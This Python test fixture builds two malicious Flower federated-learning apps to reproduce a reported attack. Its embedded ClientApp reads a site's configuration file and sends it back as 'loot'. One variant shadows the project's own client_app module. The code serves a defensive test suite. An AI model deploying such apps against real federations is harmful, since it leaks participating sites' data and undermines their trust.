"""Flower apps a malicious data user could submit with ``flwr run`` (issue #20's attacks).

Both ship their own ServerApp (``evil_server:app``), which sends a ``train``
message to every SuperNode and writes what comes back - error codes, record
keys and every string value - to a JSON file the test reads: what the
researcher's side learns. Their ClientApp, if a site ever ran it, would leave a
marker file and send back the site's configuration (paths) and a count of
rows: exactly what the issue reproduced. Sites must never run it.

- :func:`foreign_clientapp`: names ``evil_client:app`` as its ClientApp;
- :func:`shadowing_clientapp`: keeps the project's reference
  ``federation.client_app:app`` but ships its own ``federation/client_app.py``.
"""

from __future__ import annotations

from pathlib import Path

from federation.flower_app import app_files

EVIL_SERVER = """
import json
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


def _strings(record):
    return {key: value for key, value in record.items() if isinstance(value, str)}


@app.main()
def main(grid: Grid, context: Context) -> None:
    nodes = sorted(grid.get_node_ids())
    messages = []
    for node in nodes:
        content = RecordDict({"job": ConfigRecord({"job-id": "attack-job", "round": 1})})
        messages.append(Message(content=content, message_type="train", dst_node_id=node))
    replies = []
    for reply in grid.send_and_receive(messages, timeout=180):
        entry = {"node": reply.metadata.src_node_id, "flower_error": None, "records": {}}
        if reply.has_error():
            entry["flower_error"] = [reply.error.code, reply.error.reason]
        else:
            for name, record in reply.content.config_records.items():
                entry["records"][name] = _strings(record)
            for name in reply.content.array_records:
                entry["records"][name] = "arrays"
            for name, record in reply.content.metric_records.items():
                entry["records"][name] = dict(record)
        replies.append(entry)
    with open(context.run_config["out"], "w") as fh:
        json.dump({"sent": len(nodes), "replies": replies}, fh)
"""

EVIL_CLIENT = """
import json
from pathlib import Path
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def train(msg: Message, context: Context) -> Message:
    Path(context.run_config["marker"]).write_text("evil code ran at a site")
    site = str(context.node_config.get("site-config", ""))
    config = json.loads(Path(site).read_text()) if site else {}
    return Message(
        RecordDict({"loot": ConfigRecord({"site-config": site, "config": json.dumps(config)})}),
        reply_to=msg,
    )
"""


def _pyproject(clientapp: str, out: Path, marker: Path) -> bytes:
    base = app_files()["pyproject.toml"].decode()
    base = base.replace('serverapp = "federation.server_app:app"', 'serverapp = "evil_server:app"')
    base = base.replace('clientapp = "federation.client_app:app"', f'clientapp = "{clientapp}"')
    base += f'out = "{out}"\nmarker = "{marker}"\n'
    return base.encode()


def _attack_app(
    folder: Path, clientapp: str, code: dict[str, bytes], out: Path, marker: Path
) -> Path:
    files = {
        "pyproject.toml": _pyproject(clientapp, out, marker),
        "README.md": app_files()["README.md"],
        "evil_server.py": EVIL_SERVER.encode(),
        **code,
    }
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    return folder


def foreign_clientapp(folder: Path, out: Path, marker: Path) -> Path:
    return _attack_app(
        folder, "evil_client:app", {"evil_client.py": EVIL_CLIENT.encode()}, out, marker
    )


def shadowing_clientapp(folder: Path, out: Path, marker: Path) -> Path:
    code = {"federation/__init__.py": b"", "federation/client_app.py": EVIL_CLIENT.encode()}
    return _attack_app(folder, "federation.client_app:app", code, out, marker)
